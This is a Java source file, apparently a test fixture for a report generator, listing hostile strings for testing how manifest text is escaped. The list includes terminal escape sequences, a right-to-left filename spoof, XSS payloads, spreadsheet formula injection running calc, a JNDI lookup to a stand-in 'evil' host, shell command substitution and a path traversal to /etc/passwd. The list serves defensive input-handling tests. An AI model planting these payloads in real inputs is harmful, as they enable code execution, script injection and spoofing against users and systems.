package dev.gabion.report.generate;

import java.util.List;

/** Texts that somebody may put into a manifest to steer a terminal, break out of a document or hide. */
public final class HostileTexts {
    public static final List<String> ALL = List.of(
            "\u001b[31mred\u001b[0m",
            "\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\",
            "\u009b31m",
            "two\nlines",
            "carriage\rreturn\r\n",
            "\ttab",
            "nul\0nul",
            "bell\u0007 back\b",
            "\u202Egnp.exe",
            "\u2066isolated\u2069",
            "zero\u200Bwidth\uFEFF",
            "line\u2028separator\u2029",
            "high \uD800 alone",
            "low \uDC00 alone",
            "not a character \uFFFE \uFFFF",
            "tag \uDB40\uDC41",
            "</script><script>alert(1)</script>",
            "<!--<script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)",
            "]]><evil/>",
            "&lt;b&gt; &amp; &#60;",
            "a|b|c",
            "`code` ``` ~~~",
            "**bold** _it_ # head - item > quote 1. one",
            "[link](javascript:alert(1)) ![image](http://evil/x.png)",
            "@everyone #1 GH-1 www.evil.example https://evil.example",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\uFF1D1+1",
            "comma, \"quote\", 'quote'",
            "{0} {{}} {1}",
            "%3Cscript%3E %00",
            "back\\slash \\\" \\n \\u0041",
            "${jndi:ldap://evil} $(touch evil) `touch evil`",
            "../../etc/passwd",
            "C:\\windows\\file",
            "__proto__",
            "constructor",
            " leading and trailing ",
            "",
            "Z\u0351\u036B\u0343\u036Aalgo",
            "日本語の名前",
            "한국어 이름",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "x".repeat(3_000));

    private HostileTexts() {}
}
